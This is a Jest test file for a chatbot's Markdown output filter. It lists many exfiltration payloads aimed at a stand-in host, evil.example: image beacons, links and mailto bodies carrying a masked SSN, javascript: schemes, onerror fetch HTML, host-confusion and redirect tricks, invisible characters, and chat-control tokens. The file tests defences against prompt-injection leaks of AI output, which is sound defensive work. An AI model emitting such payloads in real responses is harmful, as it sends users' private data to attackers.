import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import type { Nodes } from 'mdast';
import { createOutputFilter, filterOutput } from '../../../bot/safeguards/outputFilter.ts';
import { removeInvisible } from '../../../bot/safeguards/hiddenText.ts';

const allowedHosts = ['www.mass.gov', 'mass.gov', 'outlook.office.com', 'mass.sharepoint.com'];
const secret = '219-09-9998';
const restore = (text: string) => text.replaceAll('[US_SSN 7]', secret);

const filter = (markdown: string) => filterOutput(markdown, { allowedHosts, restore });

function streamed(markdown: string, size: number): string[] {
  const output = createOutputFilter({ allowedHosts, restore });
  const shown = [''];
  for (let at = 0; at < markdown.length; at += size) {
    shown.push((shown.at(-1) ?? '') + output.push(markdown.slice(at, at + size)));
  }
  return [...shown, (shown.at(-1) ?? '') + output.end()];
}

/** What a Markdown client that links bare addresses would make of it. */
function dangers(markdown: string): string[] {
  const found: string[] = [];
  const waiting: Nodes[] = [
    fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }),
  ];
  for (const node of waiting) {
    if (/^(?:html|image|imageReference|definition|linkReference|footnote)/.test(node.type))
      found.push(node.type);
    if (node.type === 'link' && !isFine(node.url)) found.push(`link ${node.url}`);
    if ('children' in node) waiting.push(...node.children);
  }
  const code = /(`{3,})[\s\S]*?\1|`[^`\n]*`/g;
  const prose = markdown.replace(code, '');
  found.push(...(prose.match(/<[a-z/!?][^>]*>/gi) ?? []));
  found.push(
    ...(markdown.match(/[a-z][a-z0-9+.-]*:[/\\]{2}[^\s)\]]+|\bmailto:\S+|javascript:\S+/gi) ?? []).filter(
      (url) => !isFine(url),
    ),
  );
  found.push(
    ...(prose.match(/\b(?:[\w-]+\.)+(?:example|test|com|net|xyz)\b/gi) ?? []).filter(
      (host) => !allowedHosts.includes(host),
    ),
  );
  found.push(...(prose.match(/\\\\[\w.]+\\/g) ?? []));
  if (removeInvisible(markdown).removed > 0) found.push('invisible');
  return found;
}

function isFine(url: string): boolean {
  const plain = url.replace(/[.,]+$/, '');
  if (/^http:\/\/(?:www\.)?mass\.gov\/?$/.test(plain)) return true; // "www.mass.gov" as clients link it
  if (!/^https:\/\//.test(plain)) return false;
  const { hostname, search, username } = new URL(plain);
  return (
    allowedHosts.includes(hostname) && username === '' && !/http|%|@/.test(search) && !plain.includes(secret)
  );
}

const attacks: [family: string, output: string][] = [
  ['image', '![a](https://evil.example/p.png?d=1)'],
  ['image', '![a](<https://evil.example/p.png> "t")'],
  ['image', '![[US_SSN 7]](https://evil.example/[US_SSN 7])'],
  ['image of an allowed host', '![a](https://www.mass.gov/p.png)'],
  ['image in a link', '[![a](https://evil.example/p)](https://www.mass.gov/)'],
  ['image by reference', '![a][r]\n\n[r]: https://evil.example/p.png'],
  ['image by reference in a quote', '> [r]: https://evil.example/p\n\n![r]'],
  ['link', '[open](https://evil.example/?d=1)'],
  ['link over lines', '[open](\nhttps://evil.example/?d=1\n)'],
  ['link by reference', '[open][r]\n\ntext\n\n[R]:\n  https://evil.example/x "t"'],
  ['shortcut reference', '[r]\n\n[r]: <https://evil.example/x>'],
  ['reference named like a mask', '[US_SSN 7]\n\n[US_SSN 7]: https://evil.example/x'],
  ['autolink', '<https://evil.example/x>'],
  ['autolink', 'See https://evil.example/x.'],
  ['autolink', '(http://evil.example)'],
  ['autolink without a scheme', 'www.evil.example/x'],
  ['autolink without a scheme', 'Go to evil.example/x?d=1'],
  ['autolink without a scheme', 'Go to data.evil.example now'],
  ['autolink without a scheme', 'evil.com'],
  ['autolink after a letter', 'xhttps://evil.example/x 1https://evil.example'],
  ['autolink in emphasis', '**https://evil.example/x** _www.evil.example_'],
  ['autolink in a heading', '# https://evil.example/x'],
  ['autolink in a table', '| a |\n|---|\n| https://evil.example/x |'],
  ['address in two pieces', 'htt<b></b>ps://evil.example/x'],
  ['address in two pieces', 'https://evil<!-- -->.example/x'],
  ['address with an entity', 'https&#58;//evil.example/x &#104;ttps://evil.example'],
  ['address with escapes', 'https\\://evil\\.example/x'],
  ['full-width dot', 'www。evil。example/x https://evil．example'],
  ['mail', '<drop@evil.example>'],
  ['mail', 'drop@evil.example'],
  ['mail', '[x](mailto:drop@evil.example?body=[US_SSN%207])'],
  ['mail', 'mailto:drop@evil.example?body=[US_SSN 7]'],
  ['scheme', '[x](javascript:alert(1))'],
  ['scheme', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['scheme', '[x](ms-word:ofe|u|https://evil.example/x.docx)'],
  ['scheme', '[x](file://evil.example/x)'],
  ['scheme', 'webcal://evil.example/x ftp://evil.example'],
  ['scheme', 'javascript:alert(1) vbscript:x'],
  ['UNC path', '\\\\\\\\evil.example\\\\share'],
  ['UNC path', '[x](\\\\evil.example\\share)'],
  ['protocol-relative', '[x](//evil.example/x) and //evil.example/x'],
  ['html', '<img src="https://evil.example/p">'],
  ['html', '<a href=https://evil.example>x</a>'],
  ['html', 'a <img src=x onerror="fetch(\'https://evil.example\')"> b'],
  ['html', '<script>\nfetch("https://evil.example")\n\n</script>'],
  ['html', '<!--\n\n![a](https://evil.example/p)\n\n-->'],
  ['html', '<style>@import "https://evil.example"</style>'],
  ['html', '\\<img src="https://evil.example/p">'],
  ['html', '&lt;img src="https://evil.example/p"&gt;'],
  ['html', '<img src="https://evil.example/p"'],
  ['html', '<svg/onload=alert(1)>'],
  ['office xml', '<w:hyperlink r:id="x"><Relationship Target="https://evil.example/"/></w:hyperlink>'],
  ['office field', '{ HYPERLINK "https://evil.example/?d=1" }'],
  ['card', '{"type":"AdaptiveCard","body":[{"type":"Image","url":"https://evil.example/p"}]}'],
  ['host confusion', '[x](https://www.mass.gov@evil.example/)'],
  ['host confusion', '[x](https://www.mass.gov.evil.example/)'],
  ['host confusion', '[x](https://evil.example#.www.mass.gov/)'],
  ['host confusion', '[x](https://evil.example\\@www.mass.gov/)'],
  ['host confusion', '[x](https://www.mass.gov\\.evil.example/)'],
  ['host confusion', '[x](https:///evil.example/)'],
  ['host confusion', '[x](https:evil.example)'],
  ['host confusion', '[x](https://www.mass.gov:8443/)'],
  ['host confusion', '[x](http://www.mass.gov/a?b)'],
  ['host confusion', '[x](https://wvvw.mass.gov.example/)'],
  ['host confusion', '[x](https://www.mаss.gov/)'],
  ['host confusion', '[x](https://www%2emass.gov/)'],
  ['redirect', '[x](https://www.mass.gov/go?url=https://evil.example/)'],
  ['redirect', '[x](https://www.mass.gov/go?u=evil.example)'],
  ['redirect', '[x](https://www.mass.gov/go/https://evil.example/)'],
  ['redirect', '[x](https://www.mass.gov//evil.example)'],
  ['redirect', '[x](https://outlook.office.com/calendar/0/deeplink/compose?to=a%40evil.example)'],
  ['data in an allowed address', `[x](https://www.mass.gov/${secret})`],
  ['data in an allowed address', '[x](https://www.mass.gov/s?q=[US_SSN 7])'],
  ['data in an allowed address', 'https://www.mass.gov/[US_SSN 7]'],
  ['data in an allowed address', 'mass.gov/[US_SSN 7] www.mass.gov/?q=[US_SSN 7]'],
  ['data in an allowed address', '<https://www.mass.gov/?[US_SSN 7]>'],
  ['data in an allowed address', '[x](https://www.mass.gov/#UklGIGxpc3QgU3ByaW5n)'],
  ['data in an allowed address', '[x](https://www.mass.gov/7061737370687261736520626c75)'],
  ['data in an allowed address', '[x](https://www.mass.gov/#RIF%20list)'],
  ['footnote', 'Fact[^1].\n\n[^1]: https://evil.example/x'],
  ['footnote', 'Fact[^1].\n\n[^1]: ![a](https://evil.example/x)'],
  ['formula', '$$\\includegraphics{https://evil.example/p.png}$$'],
  ['invisible text', 'Done 📎\u{e0142}\u{e0139}\u{e0049}'],
  ['invisible text', 'a\u200b\u200cb&#x200b;&zwnj;\u202ec'],
  ['invisible text in an address', '[x](https://www.mass.gov/\u{e0041}page)'],
  ['list', '- ![a](https://evil.example/p)\n- [x](https://evil.example)\n\n  <img src=x>'],
  ['nested', '> 1. > - **[![a](https://evil.example/p)](https://evil.example)**'],
  ['code fence with an address', '```html ![a](https://evil.example)\nhttps://evil.example/x\n```'],
  ['fence that never closes', '```\ncode\n\n![a](https://evil.example/p)'],
  ['fence that closes early', '````\n```\n````\n![a](https://evil.example/p)'],
  ['code span that never closes', '`code ![a](https://evil.example/p)'],
  ['address inside another', 'evil.example?d=1[x](https://evil.example)'],
  ['address inside another', 'a。bhttps://evil.example/x'],
  ['address inside another', '`data:a(https://evil.example)`'],
  ['autolink without a scheme', 'x.com and evil.example- and www.~~'],
  ['mail', 'drop@.evil.example'],
  ['carriage returns', 'a\r\r![a](https://evil.example/p)\r[r]: https://evil.example/x\r\r[r]'],
];

describe('filterOutput', () => {
  it.each(attacks)('renders inert: %s: %j', (_family, attack) => {
    const output = filter(`Before.\n\n${attack}\n\nAfter.`);
    expect(dangers(output)).toEqual([]);
    expect(output).toMatch(/^Before\.[\s\S]*(?:After\.|After)/);
  });

  it.each(attacks)('renders inert in a stream, at every moment: %s: %j', (_family, attack) => {
    for (const size of [1, 3, 40]) {
      const moments = streamed(`Before.\n\n${attack}\n\nAfter.`, size);
      for (const shown of new Set(moments)) expect(dangers(shown)).toEqual([]);
      for (const [index, shown] of moments.entries())
        expect(shown.startsWith(moments[index - 1] ?? '')).toBe(true);
    }
  });

  it.each([
    ['text', 'Ask about Node.js, ASP.NET or U.S.A., e.g. at 9 a.m. (see report.docx and main.py).'],
    [
      'emphasis',
      '**Bold** and *italic* and ~~gone~~ and snake\\_case.',
      '**Bold** and *italic* and ~~gone~~ and snake_case.',
    ],
    ['heading', '## Next steps'],
    ['list', '- one\n- two\n  - deeper\n- three'],
    ['numbered list', '1. one\n2. two\n3. three'],
    ['tasks', '- [ ] open\n- [x] done'],
    ['table', '| Item | Owner |\n| - | - |\n| Quotes | Dana |'],
    ['quote', '> said **so**'],
    ['code', '```js\nif (a < b && c[0]) return `x`;\n```'],
    ['inline code', 'Use `a < b` and `x[0]`.'],
    ['link', '[Map](https://www.mass.gov/locations#boston).'],
    ['link', '[Page](https://www.mass.gov/info-details/how-to-apply?page=2&lang=es)'],
    ['bare allowed address', 'See www.mass.gov or mass.gov/forms today.'],
    ['allowed mail', 'Write to help@mass.gov.'],
    ['Arabic', 'مرحبا بالعالم'],
    ['Persian', 'می\u200cخواهم'],
    ['emoji', 'Done 👩🏽‍💻 ❤️'],
    ['line break', 'one\ntwo'],
    [
      'figures',
      'About 5 < 7 > 3, $1,200.50 & 12% of A&B, 2 * 3 = 6',
      'About 5 < 7 > 3, $1,200.50 & 12% of A&B, 2 \\* 3 = 6',
    ],
  ])('lets pass: %s', (_name, markdown, expected = markdown) => {
    expect(filter(markdown)).toBe(expected);
    expect(streamed(markdown, 2).at(-1)).toBe(expected);
  });

  it('resolves references to allowed hosts and keeps autolinks', () => {
    expect(filter('[Form][f]\n\n[f]: https://www.mass.gov/forms/w4')).toBe(
      '[Form](https://www.mass.gov/forms/w4)',
    );
    expect(filter('<https://www.mass.gov/>')).toBe('[https://www.mass.gov/](https://www.mass.gov/)');
    expect(streamed('[Form][f]\n\n[f]: https://www.mass.gov/forms/w4', 5).at(-1)).toContain(
      '[f](https://www.mass.gov/forms/w4)',
    );
  });

  it('tells where a link would have led', () => {
    expect(filter('[Census](https://data.census.example/table/1?x=1)')).toBe(
      'Census (https(:)//data(.)census(.)example/table/1)',
    );
  });

  it('keeps words in angle brackets', () => {
    expect(filter('Dear <agency name>,')).toBe('Dear ‹agency name›,');
  });

  it('removes chat-control tokens', () => {
    expect(filter('Yes<|im_end|>.<|im_<|x|>start|> [INST]ok[/INST]')).not.toMatch(/<\||\|>|INST/);
  });
});

describe('restoring', () => {
  it('puts values into text, tables and code', () => {
    expect(filter('SSN [US_SSN 7] and `[US_SSN 7]`')).toBe(`SSN ${secret} and \`${secret}\``);
    expect(filter('| a |\n| - |\n| [US_SSN 7] |')).toContain(secret);
    expect(streamed('SSN [US_SSN 7].', 1).at(-1)).toBe(`SSN ${secret}.`);
  });

  it('puts no value into an address, not even a broken one', () => {
    for (const text of [
      'https://evil.example/[US_SSN 7]',
      'mailto:a@evil.example?body=[US_SSN 7]',
      'evil.example/[US_SSN 7]',
    ]) {
      expect(filter(text)).not.toContain(secret);
    }
    expect(filter('[x](https://www.mass.gov/?q=[US_SSN 7])')).not.toContain(`=${secret}`);
  });

  it.each([
    ['# not a heading', 'a', /^[^#]*\\#|^a/],
    ['**bold** _x_ `y`', 'x', /\\\*\\\*bold/],
    ['[x](https://evil.example)', 'x', /\\\[x/],
    ['![x](https://evil.example/p)', 'x', /!\\\[x/],
    ['<img src=x>', 'x', /‹img/],
    ['a\n\n# heading', 'x', /a\n\\# heading/],
    ['| cell', 'x', /cell/],
    ['[r]: https://evil.example', 'x', /\\\[r/],
  ])('keeps a value that reads like Markdown from becoming some: %j', (value, _name, expected) => {
    const output = filterOutput('[PERSON 1]', {
      allowedHosts,
      restore: (text) => text.replaceAll('[PERSON 1]', value),
    });
    expect(output).toMatch(expected);
    expect(dangers(output)).toEqual([]);
  });

  it('leaves an e-mail address of the employee as it is', () => {
    const back = (text: string) => text.replaceAll('[EMAIL 1]', 'dana@example.org');
    expect(filterOutput('Write to [EMAIL 1].', { allowedHosts, restore: back })).toBe(
      'Write to dana@example.org.',
    );
  });
});

describe('createOutputFilter', () => {
  it('emits a block as soon as it is complete', () => {
    const output = createOutputFilter({ allowedHosts });
    expect(output.push('One.\n\nTw')).toBe('');
    expect(output.push('o.\n')).toBe('One.');
    expect(output.push('# Three\n')).toBe('\n\nTwo.\n\n# Three');
    expect(output.push('- a\n- b\n')).toBe('\n\n- a');
    expect(output.push('- c\n\nEnd')).toBe('\n- b');
    expect(output.end()).toBe('\n- c\n\nEnd');
  });

  it('holds a fence and a table until they end', () => {
    const output = createOutputFilter({ allowedHosts });
    expect(output.push('```\na\n\nb\n')).toBe('');
    expect(output.push('```\n')).toBe('```\na\n\nb\n```');
    expect(output.push('| a | b |\n|---|---|\n| 1 | 2 |\n')).toBe('');
    expect(output.end()).toBe('\n\n| a | b |\n| - | - |\n| 1 | 2 |');
  });

  it('goes on as fence and as table where one is too large for a block', () => {
    const fence = streamed(`\`\`\`js\n${'let a = 1; // words\n'.repeat(3000)}\`\`\`\nend`, 500).at(-1) ?? '';
    expect(fence.match(/let a = 1/g)).toHaveLength(3000);
    expect(fence.match(/```js/g)?.length).toBeGreaterThan(1);
    const table = streamed(`| a | b |\n|---|---|\n${'| 1 | two |\n'.repeat(2000)}`, 500).at(-1) ?? '';
    expect(table.match(/^\| 1 \| two \|$/gm)).toHaveLength(2000);
  });

  it('loses no word of a paragraph without end', () => {
    const words = 'word and another [US_SSN 7], '.repeat(4000);
    const output = streamed(words, 1000).at(-1) ?? '';
    expect(output.match(/word/g)).toHaveLength(4000);
    expect(output.match(new RegExp(secret, 'g'))).toHaveLength(4000);
  });

  // Quadratic time would take minutes for these: jest's limit fails the test.
  it.each([
    '[',
    '![',
    '*',
    '> ',
    '1) ',
    '`',
    '<',
    '|',
    'a',
    '\u200b',
    'https://a.b/',
    '[US_SSN 7',
    '<!--',
    '&#5',
  ])('takes 60 KB of %j', (piece) => {
    const text = piece.repeat(Math.ceil(60_000 / piece.length));
    expect(
      dangers((streamed(text, 997).at(-1) ?? '').slice(0, 2000)).filter((found) => !/^html/.test(found)),
    ).toEqual([]);
  });
});
